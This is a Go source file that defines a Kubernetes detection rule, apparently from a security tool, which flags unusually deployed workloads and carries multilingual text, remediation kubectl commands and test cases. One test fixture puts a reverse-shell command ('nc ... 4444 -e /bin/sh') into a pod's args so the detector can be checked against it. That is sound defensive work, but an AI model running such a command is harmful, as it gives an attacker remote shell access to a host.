package detections

import (
	"github.com/merlonsec/merlon/internal/finding"
	"github.com/merlonsec/merlon/internal/lang"
	"github.com/merlonsec/merlon/internal/rule"
)

// AnomalousWorkloadDeployed finds workloads that were made or changed by somebody who does not do so, or with images that they
// do not use, where two things more are unusual. It is graver where the image holds tools for breaking in, or the workload
// starts as a reverse shell does (see suspiciousImages and reverseShell).
var AnomalousWorkloadDeployed = rule.Detection{
	Type:     "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
	Severity: finding.SeverityLow,
	Grade: func(a *rule.Action) finding.Severity {
		if looksHostile(a) {
			return finding.SeverityMedium
		}
		return finding.SeverityLow
	},
	References: []rule.Reference{guardDuty("exec-kubernetes-anomalousbehavior-workloaddeployed"), attack("T1610"), threatMatrix("MS-TA9008", "New%20Container")},
	Title: lang.Text{
		EN: "Workload deployed in an unusual way",
		ES: "Carga de trabajo desplegada de forma inusual",
		PT: "Carga de trabalho implantada de forma incomum",
	},
	Why: lang.Text{
		EN: "A workload runs any program with any service account of its namespace. Attackers deploy one to mine, to listen, or to get at the credentials of others.",
		ES: "Una carga de trabajo ejecuta cualquier programa con cualquier cuenta de servicio de su espacio de nombres. Los atacantes despliegan una para minar, para escuchar o para llegar a las credenciales de otros.",
		PT: "Uma carga de trabalho executa qualquer programa com qualquer conta de serviço do seu namespace. Invasores implantam uma para minerar, para escutar ou para chegar às credenciais de outros.",
	},
	Fix: anomalyFix(lang.Text{
		EN: "Check the workload, and take it away if nobody meant it",
		ES: "Revise la carga de trabajo y quítela si no era intencional",
		PT: "Verifique a carga de trabalho e remova-a se não era intencional",
	},
		"kubectl -n NAMESPACE get KIND NAME -o yaml > NAME.yaml",
		"kubectl -n NAMESPACE rollout history KIND NAME",
		"kubectl -n NAMESPACE rollout undo KIND NAME",
	),
	On:      workloadSelectors(),
	Where:   []rule.EventCondition{tookEffect(), byItsUser()},
	About:   []rule.EventField{rule.FieldUser, rule.FieldWorkload},
	Unusual: &rule.Unusual{Deed: []rule.Profile{rule.ProfileAPI, rule.ProfileImage}, Sides: howItWasDone(), Least: 2},
	Examples: []rule.EventExample{
		{
			Name:    "a developer's credentials deploy in another namespace, from elsewhere",
			Learned: usualDays(),
			Input:   deployed("payments", "registry.example.com/x:1", ``, ``).byThief().String(),
			Want:    finding.Present,
		},
		{
			Name:     "an image with tools for breaking in",
			Learned:  usualDays(),
			Input:    deployed("payments", "kalilinux/kali-rolling", ``, ``).byThief().String(),
			Want:     finding.Present,
			Severity: graded(finding.SeverityMedium),
		},
		{
			Name:     "a reverse shell",
			Learned:  usualDays(),
			Input:    deployed("payments", "busybox:1.36", `,"command":["sh","-c"],"args":["nc 198.51.100.9 4444 -e /bin/sh"]`, ``).byThief().String(),
			Want:     finding.Present,
			Severity: graded(finding.SeverityMedium),
		},
		{
			Name:    "a developer who deploys the next release",
			Learned: usualDays(deployed("shop", "registry.example.com/shop/web:1.4", ``, ``).atOffice()),
			Input:   deployed("shop", "registry.example.com/shop/web:1.5", ``, ``).atOffice().String(),
			Want:    finding.Absent,
		},
		{
			Name:    "a new image, with all else as usual",
			Learned: usualDays(deployed("shop", "registry.example.com/shop/web:1.4", ``, ``).atOffice()),
			Input:   deployed("shop", "registry.example.com/shop/cart:0.1", ``, ``).atOffice().String(),
			Want:    finding.Absent,
		},
		{
			Name:    "a new image in a new namespace, from where it is usual",
			Learned: usualDays(deployed("shop", "registry.example.com/shop/web:1.4", ``, ``).atOffice()),
			Input:   deployed("cart", "registry.example.com/shop/cart:0.1", ``, ``).atOffice().String(),
			Want:    finding.Absent,
		},
		{
			Name:    "the pods that a controller makes of it",
			Learned: usualDays(record{User: "system:serviceaccount:kube-system:replicaset-controller", UserAgent: "kube-controller-manager/v1.35.0", IP: "10.0.0.5", Verb: "get", Resource: "pods", Namespace: "shop"}),
			Input:   record{User: "system:serviceaccount:kube-system:replicaset-controller", UserAgent: thiefAgent, IP: thiefIP, Verb: "create", Resource: "pods", Namespace: "payments", Code: 201, Response: `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"web-7b-x","namespace":"payments","ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-7b","uid":"1","controller":true}]},"spec":{"containers":[{"name":"main","image":"registry.example.com/x:1"}]}}`}.String(),
			Want:    finding.Absent,
			Misses:  "not-derived",
		},
		{
			Name:    "a request that was not allowed",
			Learned: usualDays(),
			Input:   record{Verb: "create", Resource: "deployments.apps", Namespace: "payments", Name: "web", Code: 403, Response: deployment("payments", "registry.example.com/x:1", ``, ``)}.byThief().String(),
			Want:    finding.Absent,
			Misses:  "took-effect",
		},
		{
			Name:    "a record that does not tell the outcome",
			Learned: usualDays(),
			Input:   record{Verb: "create", Resource: "deployments.apps", Namespace: "payments", Name: "web", Code: -1}.byThief().String(),
			Want:    finding.Unknown,
		},
	},
}
